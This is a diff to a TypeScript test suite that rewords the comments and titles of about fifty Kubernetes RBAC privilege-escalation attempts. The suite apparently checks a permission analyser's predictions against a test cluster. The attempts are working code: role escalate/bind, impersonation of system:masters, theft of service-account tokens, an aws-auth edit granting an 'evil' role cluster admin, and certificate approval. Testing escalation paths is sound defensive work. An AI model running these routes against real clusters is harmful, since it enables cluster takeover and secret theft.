@@ -10,43 +10,43 @@ import { answerWebhook } from './mutating-webhook.ts';
 import { API, reviewed } from './rbac-cluster.ts';
 import type { Manifest, Rule } from './rbac-sets.ts';
 
-/** Ways to become administrator, carried out by somebody who has these rights and no other. */
+/** Routes to cluster admin, carried out by a caller with exactly these permissions. */
 
 const GROUP = 'rbac.authorization.k8s.io';
 const ADMISSION = '/apis/admissionregistration.k8s.io/v1';
 const CERTIFICATES = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
-/** A namespace with a service account that is administrator, as that of Argo CD is. */
+/** A namespace with a cluster-admin service account, like Argo CD's. */
 const PAYMENTS = 'ways-payments';
-/** One with nobody in it who may do anything. */
+/** A namespace whose accounts have no permissions. */
 const EMPTY = 'ways-empty';
 const ARGOCD = 'system:serviceaccount:ways-payments:argocd';
 const AGGREGATION = 'clusterrole-aggregation-controller';
 const PLATFORM = 'platform-admins';
 const CLIENT_SIGNER = 'kubernetes.io/kube-apiserver-client';
-/** Secrets with tokens of service accounts, as older clusters have them for each. */
+/** Secrets with service account tokens, which older clusters have for each account. */
 const OF_ARGOCD = 'token-of-argocd';
 const OF_CONTROLLER = 'token-of-controller';
 
 export interface Attempt {
   readonly risk: Risk;
-  /** What is tried, in a few words. */
+  /** Short description of the attempt. */
   readonly title: string;
   readonly rights: readonly Right[];
-  /** Answers who in the end may do what an administrator may. */
+  /** Returns the caller who ends up as cluster admin. */
   readonly run: (me: Caller) => Promise<Caller>;
-  /** What is said of the first step that fails; undefined where none does. */
+  /** The error of the first step that fails; undefined if none does. */
   readonly refusal?: RegExp;
-  /** What the one who comes out of it is asked to do; by default, everything. */
+  /** Proves that the resulting caller is cluster admin; by default, by asking for everything. */
   readonly proof?: (who: Caller) => Promise<unknown>;
 }
 
 export interface Right {
   readonly rules: readonly Rule[];
-  /** Of a Role and its RoleBinding; undefined: cluster-wide. */
+  /** The namespace of a Role and RoleBinding; undefined for cluster-wide. */
   readonly namespace?: string;
 }
 
-/** Calls the API server as somebody. */
+/** Calls the API server with one identity. */
 export class Caller {
   readonly name: string;
   private readonly credentials: () => string | ClientCertificate;
@@ -95,7 +95,7 @@ export class Caller {
     });
   }
 
-  /** A token of a service account, which is a caller of its own. */
+  /** A caller with a service account's token. */
   async tokenFor(namespace: string, account: string): Promise<Caller> {
     const path = `/api/v1/namespaces/${namespace}/serviceaccounts/${account}/token`;
     const { status } = v.parse(tokenSchema, await this.post(path, { spec: {} }));
@@ -107,7 +107,7 @@ const tokenSchema = v.object({ status: v.object({ token: v.string() }) });
 
 export const ROLE = 'arn:aws:iam::111122223333:role/attacker';
 const EVIL = 'arn:aws:iam::111122223333:role/evil';
-/** The username is the name of the session. */
+/** Uses the session name as the username. */
 const OWN_AWS_AUTH = `- {rolearn: "${ROLE}", username: "{{SessionName}}", groups: []}\n`;
 const WITH_EVIL = `${OWN_AWS_AUTH}- {rolearn: "${EVIL}", username: evil, groups: [system:masters]}\n`;
 
@@ -147,7 +147,7 @@ const bindingsIn = (namespace: string) => `${API}/namespaces/${namespace}/rolebi
 const AWS_AUTH = '/api/v1/namespaces/kube-system/configmaps/aws-auth';
 const awsAuth = { metadata: { name: 'aws-auth' }, data: { mapRoles: WITH_EVIL } };
 
-/** Until the API server knows of what was just done. */
+/** Retries until the API server has noticed the last change. */
 function eventually<Result>(run: () => Promise<Result>): Promise<Result> {
   return vi.waitFor(run, { timeout: 20_000, interval: 50 });
 }
@@ -179,12 +179,12 @@ const readsAllSecrets = (who: Caller) => requireSecrets(who, '/api/v1/secrets', 
 const readsSystemSecrets = (who: Caller) =>
   requireSecrets(who, '/api/v1/namespaces/kube-system/secrets', 'of-kube-system');
 
-/** Whoever may do everything in a namespace takes the token of its service account. */
+/** Takes a service account's token, with all permissions in its namespace. */
 async function throughArgocd(me: Caller): Promise<Caller> {
   return eventually(() => me.tokenFor(PAYMENTS, 'argocd'));
 }
 
-/** This controller may write any right into any role, its own for one. */
+/** This controller can write any permission into any role, including its own. */
 async function throughController(me: Caller): Promise<Caller> {
   return throughToken(await eventually(() => me.tokenFor('kube-system', AGGREGATION)));
 }
@@ -196,7 +196,7 @@ async function throughToken(controller: Caller): Promise<Caller> {
 
 const clusterRole = (name: string) => `${API}/clusterroles/${name}`;
 
-/** Rights with which the attempts are told apart have the names of their holders, see `rightsOf`. */
+/** The holder's name, which also distinguishes the permissions of each attempt, see `rightsOf`. */
 export function holderOf(index: number): string {
   return `attacker-${index}`;
 }
@@ -268,7 +268,7 @@ const POLICY_BINDING = {
   spec: { policyName: 'helper' },
 };
 
-/** An administrator changes something else of aws-auth, until the one who waits for it gets in. */
+/** A cluster admin makes unrelated changes to aws-auth until the waiting caller has access. */
 async function whenChanged(): Promise<Caller> {
   await eventually(async () => {
     await administrator.patch(AWS_AUTH, { metadata: { annotations: { changed: String(Date.now()) } } });
@@ -280,7 +280,7 @@ async function whenChanged(): Promise<Caller> {
 const REFUSED = /: 403 /;
 const NOT_HELD = /: 403 .*attempting to grant RBAC permissions not currently held/s;
 
-/** What is carried out, or refused: both are what the program says of whoever has these rights. */
+/** Attempts that succeed or are refused, as the program predicts from these permissions. */
 export const ATTEMPTS: readonly Attempt[] = [
   { risk: 'cluster-admin', title: 'everything', rights: [everywhere(...ALL)], run: async (me) => me },
   {
@@ -292,7 +292,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   ...(['patch', 'update'] as const).map(
     (verb): Attempt => ({
       risk: 'escalate',
-      title: `escalate and ${verb} of the own role`,
+      title: `escalate and ${verb} the caller's own role`,
       rights: [everywhere(escalate(), write(verb, 'clusterroles'))],
       run: async (me) => {
         const [path, role] = [
@@ -306,7 +306,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   ),
   {
     risk: 'escalate',
-    title: 'escalate and create of a role that the own role takes in',
+    title: "escalate and create a role that the caller's role aggregates",
     rights: [everywhere(escalate(), write('create', 'clusterroles'))],
     run: async (me) => {
       const aggregationRule = { clusterRoleSelectors: [{ matchLabels: { 'taken-in': me.name } }] };
@@ -325,7 +325,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'escalate',
-    title: 'escalate and patch of a role in a namespace with a powerful service account',
+    title: 'escalate and patch a role in a namespace with a powerful service account',
     rights: [within(PAYMENTS, rule('escalate patch', GROUP, 'roles'))],
     run: async (me) => {
       await me.patch(`${rolesIn(PAYMENTS)}/${me.name}-0`, { rules: ALL_IN_NAMESPACE });
@@ -334,7 +334,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'escalate',
-    title: 'escalate and patch of a role in kube-system',
+    title: 'escalate and patch a role in kube-system',
     rights: [within('kube-system', rule('escalate patch', GROUP, 'roles'))],
     run: async (me) => {
       await me.patch(`${rolesIn('kube-system')}/${me.name}-0`, { rules: ALL_IN_NAMESPACE });
@@ -343,7 +343,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'escalate',
-    title: 'escalate alone',
+    title: 'only escalate',
     rights: [everywhere(escalate())],
     run: async (me) => {
       await me.patch(clusterRole(`${me.name}-0`), { rules: ALL });
@@ -353,7 +353,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'escalate',
-    title: 'patch of roles alone',
+    title: 'only patch roles',
     rights: [everywhere(write('patch update create', 'clusterroles'))],
     run: async (me) => {
       await me.patch(clusterRole(`${me.name}-0`), { rules: ALL });
@@ -363,7 +363,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'escalate',
-    title: 'escalate of another role than may be written',
+    title: 'escalate another role than the writable one',
     rights: [everywhere(escalate('view'), write('patch', 'clusterroles', 'edit'))],
     run: async (me) => {
       await me.patch(`${clusterRole('edit')}?dryRun=All`, { rules: ALL });
@@ -373,7 +373,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'bind',
-    title: 'bind and create of a cluster role binding',
+    title: 'bind and create a cluster role binding',
     rights: [everywhere(bind('cluster-admin'), write('create', 'clusterrolebindings'))],
     run: async (me) => {
       await me.post(`${API}/clusterrolebindings`, bindMe(me.name));
@@ -382,7 +382,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'bind',
-    title: 'bind and patch of a cluster role binding that is there',
+    title: 'bind and patch an existing cluster role binding',
     rights: [everywhere(bind(), write('patch', 'clusterrolebindings', PLATFORM))],
     run: async (me) => {
       await me.patch(`${API}/clusterrolebindings/${PLATFORM}`, { subjects: [user(me.name), PLATFORM_GROUP] });
@@ -391,7 +391,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'bind',
-    title: 'bind and create of a role binding in a namespace with a powerful service account',
+    title: 'bind and create a role binding in a namespace with a powerful service account',
     rights: [within(PAYMENTS, bind(), write('create', 'rolebindings'))],
     run: async (me) => {
       await me.post(bindingsIn(PAYMENTS), bindMeIn(me.name));
@@ -400,7 +400,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'bind',
-    title: 'bind cluster-wide and create of a role binding in kube-system',
+    title: 'bind cluster-wide and create a role binding in kube-system',
     rights: [everywhere(bind()), within('kube-system', write('create', 'rolebindings'))],
     run: async (me) => {
       await me.post(bindingsIn('kube-system'), bindMeIn(me.name));
@@ -409,7 +409,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'bind',
-    title: 'bind alone',
+    title: 'only bind',
     rights: [everywhere(bind())],
     run: async (me) => {
       await me.post(`${API}/clusterrolebindings`, bindMe(me.name));
@@ -419,7 +419,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'bind',
-    title: 'create of bindings alone',
+    title: 'only create bindings',
     rights: [everywhere(write('create patch', 'clusterrolebindings'))],
     run: async (me) => {
       await me.post(`${API}/clusterrolebindings`, bindMe(me.name));
@@ -429,7 +429,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'bind',
-    title: 'bind of a harmless role',
+    title: 'bind a harmless role',
     rights: [everywhere(bind('system:discovery'), write('create', 'clusterrolebindings'))],
     run: async (me) => {
       await me.post(`${API}/clusterrolebindings`, bindMe(me.name));
@@ -439,13 +439,13 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'impersonate',
-    title: 'impersonate of a user who is administrator',
+    title: 'impersonate a user who is cluster admin',
     rights: [everywhere(impersonate('users'))],
     run: async (me) => me.as('alice'),
   },
   {
     risk: 'impersonate',
-    title: 'impersonate of the user of the controllers',
+    title: "impersonate the controllers' user",
     rights: [everywhere(impersonate('users', 'system:kube-controller-manager'))],
     run: async (me) => {
       await readsAllSecrets(me.as('system:kube-controller-manager'));
@@ -454,19 +454,19 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'impersonate',
-    title: 'impersonate of service accounts in a namespace with a powerful one',
+    title: 'impersonate service accounts in a namespace with a powerful one',
     rights: [within(PAYMENTS, impersonate('serviceaccounts'))],
     run: async (me) => me.as(ARGOCD),
   },
   {
     risk: 'impersonate',
-    title: 'impersonate of groups, with a harmless user by name',
+    title: 'impersonate groups, with a harmless user by name',
     rights: [everywhere(impersonate('groups'), impersonate('users', 'bob'))],
     run: async (me) => me.as('bob', 'system:masters'),
   },
   {
     risk: 'impersonate',
-    title: 'impersonate of system:masters, with any service account of one harmless namespace',
+    title: 'impersonate system:masters, with any service account of one harmless namespace',
     rights: [
       everywhere(impersonate('groups', 'system:masters')),
       within(EMPTY, impersonate('serviceaccounts')),
@@ -475,35 +475,35 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'impersonate',
-    title: 'impersonate of groups, without a user',
+    title: 'impersonate groups, without a user',
     rights: [everywhere(impersonate('groups'))],
     run: async (me) => me.as(null, 'system:masters'),
     refusal: /: 400 .*without impersonating a user name/s,
   },
   {
     risk: 'impersonate',
-    title: 'impersonate of groups, as oneself',
+    title: 'impersonate groups, as the caller',
     rights: [everywhere(impersonate('groups'))],
     run: async (me) => me.as(me.name, 'system:masters'),
     refusal: REFUSED,
   },
   {
     risk: 'impersonate',
-    title: 'impersonate of a service account as a user',
+    title: 'impersonate a service account as a user',
     rights: [everywhere(impersonate('users', ARGOCD))],
     run: async (me) => me.as(ARGOCD),
     refusal: REFUSED,
   },
   {
     risk: 'impersonate',
-    title: 'impersonate of users by a role in a namespace',
+    title: 'impersonate users through a role in a namespace',
     rights: [within(PAYMENTS, impersonate('users groups'))],
     run: async (me) => me.as('alice'),
     refusal: REFUSED,
   },
   {
     risk: 'impersonate-constrained',
-    title: 'a binding on behalf of a group of administrators',
+    title: 'a binding on behalf of a cluster-admin group',
     rights: [everywhere(asUserInfo('users groups'), onBehalf('create', GROUP, 'clusterrolebindings'))],
     run: async (me) => {
       await me.as('bob', PLATFORM).post(`${API}/clusterrolebindings`, bindMe(me.name));
@@ -512,7 +512,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'impersonate-constrained',
-    title: 'a token on behalf of the user of the controllers',
+    title: "a token on behalf of the controllers' user",
     rights: [
       everywhere(
         asUserInfo('users', 'system:kube-controller-manager'),
@@ -535,7 +535,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'impersonate-constrained',
-    title: 'impersonate:user-info alone',
+    title: 'only impersonate:user-info',
     rights: [everywhere(asUserInfo('users groups'))],
     run: async (me) => {
       await me.as('alice').post(`${API}/clusterrolebindings`, bindMe(me.name));
@@ -545,7 +545,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'impersonate-constrained',
-    title: 'impersonate-on alone',
+    title: 'only impersonate-on',
     rights: [everywhere(onBehalf('create', GROUP, 'clusterrolebindings'))],
     run: async (me) => {
       await me.as('alice').post(`${API}/clusterrolebindings`, bindMe(me.name));
@@ -590,7 +590,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'edit-aws-auth',
-    title: 'patch of aws-auth',
+    title: 'patch aws-auth',
     rights: [configMaps('patch', 'aws-auth')],
     run: async (me) => {
       await me.patch(AWS_AUTH, { data: awsAuth.data });
@@ -599,7 +599,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'edit-aws-auth',
-    title: 'update of aws-auth',
+    title: 'update aws-auth',
     rights: [configMaps('update', 'aws-auth')],
     run: async (me) => {
       await me.put(AWS_AUTH, awsAuth);
@@ -608,10 +608,10 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'edit-aws-auth',
-    title: 'delete and create of aws-auth',
+    title: 'delete and create aws-auth',
     rights: [configMaps('delete', 'aws-auth'), configMaps('create')],
     run: async (me) => {
-      // The map that lets them in is gone with it, but for ten seconds the API server remembers a token.
+      // This also deletes the caller's own entry, but the API server caches a token for ten seconds.
       const still = me.withOneToken();
       await still.delete(AWS_AUTH);
       await still.post('/api/v1/namespaces/kube-system/configmaps', awsAuth);
@@ -620,7 +620,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'edit-aws-auth',
-    title: 'delete of all config maps and create of aws-auth',
+    title: 'delete all config maps and create aws-auth',
     rights: [configMaps('deletecollection'), configMaps('create')],
     run: async (me) => {
       const still = me.withOneToken();
@@ -631,7 +631,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'edit-aws-auth',
-    title: 'create of config maps, where aws-auth is there',
+    title: 'create config maps if aws-auth exists',
     rights: [configMaps('create')],
     run: async (me) => {
       await me.post('/api/v1/namespaces/kube-system/configmaps', awsAuth);
@@ -660,7 +660,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'edit-mutating-policies',
-    title: 'other content for a policy that is bound',
+    title: 'other content for a bound policy',
     rights: [everywhere(admission('patch', 'mutatingadmissionpolicies'))],
     run: async (me) => {
       await administrator.post(`${ADMISSION}/mutatingadmissionpolicies`, HARMLESS);
@@ -683,7 +683,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   ...(['get', 'list', 'watch'] as const).map(
     (verb): Attempt => ({
       risk: 'read-secrets',
-      title: `${verb} of all secrets`,
+      title: `${verb} all secrets`,
       rights: [everywhere(rule(verb, '', 'secrets'))],
       run: async (me) => me,
       proof: (me) => readSecret(me, verb, PAYMENTS, `of-${PAYMENTS}`),
@@ -691,7 +691,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   ),
   {
     risk: 'read-secrets',
-    title: 'all secrets by a role in one namespace',
+    title: 'all secrets through a role in one namespace',
     rights: [within(EMPTY, rule('get list watch', '', 'secrets'))],
     run: async (me) => me,
     proof: readsAllSecrets,
@@ -699,14 +699,14 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'read-system-secrets',
-    title: 'list of the secrets of kube-system',
+    title: 'list the secrets of kube-system',
     rights: [within('kube-system', rule('list', '', 'secrets'))],
     run: async (me) => me,
     proof: readsSystemSecrets,
   },
   {
     risk: 'approve-certificates',
-    title: 'a certificate that one has asked for oneself',
+    title: 'a certificate that the caller requested',
     rights: [
       everywhere(
         rule('create', 'certificates.k8s.io', 'certificatesigningrequests'),
@@ -718,7 +718,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'approve-certificates',
-    title: 'a certificate that another has asked for',
+    title: 'a certificate that someone else requested',
     rights: [
       everywhere(
         rule('update patch', 'certificates.k8s.io', 'certificatesigningrequests/approval'),
@@ -729,14 +729,14 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'approve-certificates',
-    title: 'approval without the right for the signer',
+    title: 'approval without permission for the signer',
     rights: [everywhere(rule('update patch', 'certificates.k8s.io', 'certificatesigningrequests/approval'))],
     run: (me) => approve(me, administrator),
     refusal: /: 403 .*user not permitted to approve requests/s,
   },
   {
     risk: 'create-tokens',
-    title: 'a secret that asks for a token of a powerful service account',
+    title: 'a secret that requests a token of a powerful service account',
     rights: [within(PAYMENTS, rule('create get', '', 'secrets'))],
     run: async (me) => {
       const annotations = { 'kubernetes.io/service-account.name': 'argocd' };
@@ -772,7 +772,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   },
   {
     risk: 'exec',
-    title: 'exec with get alone',
+    title: 'exec with only get',
     rights: [everywhere(rule('get', '', 'pods/exec pods/attach'))],
     run: async (me) => {
       await me.get(`/api/v1/namespaces/${PAYMENTS}/pods/web/exec?command=id&container=web`);
@@ -792,7 +792,7 @@ async function readSecret(
 ): Promise<void> {
   const path = `/api/v1/namespaces/${namespace}/secrets`;
   if (verb === 'list') return requireSecrets(me, path, name);
-  // One event: the secret, which is there.
+  // One event: the existing secret.
   const watched = `${path}?watch=1&resourceVersion=0&timeoutSeconds=1&fieldSelector=metadata.name%3D${name}`;
   const answer = await me.get(verb === 'get' ? `${path}/${name}` : watched);
   expect(JSON.stringify(answer)).toContain(Buffer.from(SECRET).toString('base64'));
@@ -802,7 +802,7 @@ const SECRET = 'not for everybody';
 
 const certificateSchema = v.object({ status: v.object({ certificate: v.string() }) });
 
-/** Approves a certificate for a member of a group of administrators, and comes with it. */
+/** Approves a certificate for a member of a cluster-admin group, and returns a caller with it. */
 async function approve(me: Caller, asker: Caller): Promise<Caller> {
   const { key, request } = requestCertificate('evil', PLATFORM);
   const spec = { request, signerName: CLIENT_SIGNER, usages: ['client auth'] };
@@ -812,14 +812,14 @@ async function approve(me: Caller, asker: Caller): Promise<Caller> {
   const approved = { ...v.parse(v.looseObject({}), asked), status: { conditions: [condition] } };
   await me.put(`${path}/approval`, approved);
   return eventually(async () => {
-    // What is approved already is approved again: the answer has the certificate, for whoever may not read it.
+    // Approves it again: the answer has the certificate, even for a caller who can't read it.
     const answer = await me.patch(`${path}/approval`, {});
     const cert = Buffer.from(v.parse(certificateSchema, answer).status.certificate, 'base64').toString();
     return new Caller('evil', () => ({ key, cert }));
   });
 }
 
-/** What there is in a cluster, beside whoever tries something. */
+/** Creates the objects that the attempts need in the cluster. */
 export async function makeSurroundings(): Promise<void> {
   await setAwsAuth({ mapRoles: OWN_AWS_AUTH });
   for (const name of [PAYMENTS, EMPTY])
@@ -860,7 +860,7 @@ export async function makeSurroundings(): Promise<void> {
   await eventually(() => callerOf(ROLE, 'anybody').get('/version'));
 }
 
-/** Whose secret it is comes with its token, once the controller has written it. */
+/** A caller with the token in a secret, once the controller has written it. */
 function tokenIn(me: Caller, path: string): Promise<Caller> {
   return eventually(async () => {
     const { data } = v.parse(v.object({ data: dataSchema }), await me.get(path));
@@ -872,7 +872,7 @@ function tokenIn(me: Caller, path: string): Promise<Caller> {
 
 const dataSchema = v.optional(v.record(v.string(), v.string()));
 
-/** Undoes what an attempt has done to what all of them share. */
+/** Undoes an attempt's changes to shared objects. */
 export async function restoreSurroundings(): Promise<void> {
   const rules = [rule('escalate get list patch update watch', GROUP, 'clusterroles')];
   await administrator.patch(clusterRole(`system:controller:${AGGREGATION}`), { rules });
@@ -882,7 +882,7 @@ export async function restoreSurroundings(): Promise<void> {
     'mutatingwebhookconfigurations',
   ])
     await administrator.delete(`${ADMISSION}/${kind}/helper`).catch(() => {});
-  // Without a map in between, where there is no need for one: for that moment nobody gets in.
+  // Changes aws-auth only if necessary: without a map, nobody has access for a moment.
   const { mapRoles } = await liveData().catch(() => ({ mapRoles: undefined }));
   if (mapRoles === OWN_AWS_AUTH) return;
   await setAwsAuth({ mapRoles: OWN_AWS_AUTH });
